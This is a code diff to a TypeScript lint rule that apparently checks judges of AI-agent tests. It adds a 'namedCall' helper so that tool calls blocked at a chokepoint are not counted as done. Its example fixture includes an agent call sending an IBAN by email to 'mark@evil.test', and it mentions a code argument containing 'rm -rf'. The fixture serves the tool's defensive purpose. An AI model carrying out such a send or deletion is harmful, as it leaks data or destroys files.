@@ -34,7 +34,7 @@ export default defineRule({
       reference: "[call('send_email', { to: 'mark@evil.test', subject: 'Invoice', body: 'IBAN: DE89370400440532013000' })]",
     },
     witness:
-      "The reference run with the last call of a tool the judge selects blocked at the chokepoint: in the trace with status `blocked` and the gate's decision, never run, so its effect is missing. A judge that selects calls by no tool (the calls an assistant turn proposed, `trace[i]` for each index in its `toolCalls`) has the last reference call blocked whose argument its check accepts (the `code` that contains `rm -rf`). The action was not done: a right judge fails it (an attack judge does not fire) and this one passes it. Where the reference makes no such call, the reasoning itself: the verdict reads neither a call's status nor the chokepoint's decisions.",
+      "The reference run with the last call of a tool the judge selects blocked at the chokepoint: in the trace with status `blocked` and the gate's decision, never run, so its effect is missing. A judge that selects calls by no tool (the calls an assistant turn proposed, `trace[i]` for each index in its `toolCalls`) has the last reference call blocked whose argument its check accepts (the `code` that contains `rm -rf`), or else the last reference call of a tool its check looks for by name without a selector (the name searched in a text built from the calls, or one of a list of names looked up among those called). The action was not done: a right judge fails it (an attack judge does not fire) and this one passes it. Where the reference makes no such call, the reasoning itself: the verdict reads neither a call's status nor the chokepoint's decisions.",
   },
   defaultOptions: {},
   check({ facts, judge, task, report }) {
@@ -72,7 +72,8 @@ export default defineRule({
  * the trace with status `blocked`, never run. The action was not done, so a right judge fails (an
  * attack judge does not fire), and this one passes. A judge that selects no tool (a call reached
  * through the conversation, `trace[i]` for each `i` of an assistant turn's `toolCalls`) is given
- * the last reference call whose argument its check accepts. Without such a call, the reasoning itself.
+ * the last reference call whose argument its check accepts, or of a tool its check looks for by name.
+ * Without such a call, the reasoning itself.
  */
 function witness(facts: JudgeFacts, task: TaskFacts, selectors: readonly CompareRecord[]): WitnessSpec {
   const tools = new Set(
@@ -82,7 +83,7 @@ function witness(facts: JudgeFacts, task: TaskFacts, selectors: readonly Compare
     [...tools]
       .flatMap((tool) => callsOf(task, tool))
       .sort((a, b) => a.index - b.index)
-      .at(-1) ?? (tools.size === 0 ? acceptedCall(facts, task) : undefined);
+      .at(-1) ?? (tools.size === 0 ? (acceptedCall(facts, task) ?? namedCall(facts, task)) : undefined);
   if (last) return referenceWitness({ kind: 'block-call', call: last.index, tool: last.call.tool }, false, last.call.node);
   const named = [...tools].sort().join(', ') || 'a call';
   return codeWitness(`the verdict reads neither a call's \`status\` nor the chokepoint's decisions: ${named} blocked at the chokepoint counts as made`);
@@ -113,6 +114,23 @@ function acceptedCall(facts: JudgeFacts, task: TaskFacts): { readonly index: num
     }
   }
   return last;
+}
+
+/**
+ * The last reference call whose tool a check the verdict needs looks for by its name, without a
+ * selector: the name found in a text built from the calls (`String(row.content).includes('search_lat_lon')`)
+ * or one of a set of names (`names.has(t)` for each `t` of `['send_email']`). Its literal is the
+ * tool's name, so the call is the one the check finds.
+ */
+function namedCall(facts: JudgeFacts, task: TaskFacts): { readonly index: number; readonly call: ReferenceCallFacts } | undefined {
+  const names = new Set<string>();
+  for (const id of facts.verdict.recs.keys()) {
+    const record = facts.records.get(id);
+    if (record?.type !== 'compare' || record.match === 'selector' || !matchNeeded(facts, record)) continue;
+    if (!readingsOf(record.match).every((m) => NEEDLE_MATCHES.has(m))) continue;
+    for (const name of literalsOf(record.expected) ?? []) names.add(name);
+  }
+  return (task.reference ?? []).flatMap((call, index) => (names.has(call.tool) ? [{ index, call }] : [])).at(-1);
 }
 
 const ARGUMENT = /^trace(?:\[[^\]]*\])?\.args\.([\w$]+)/;
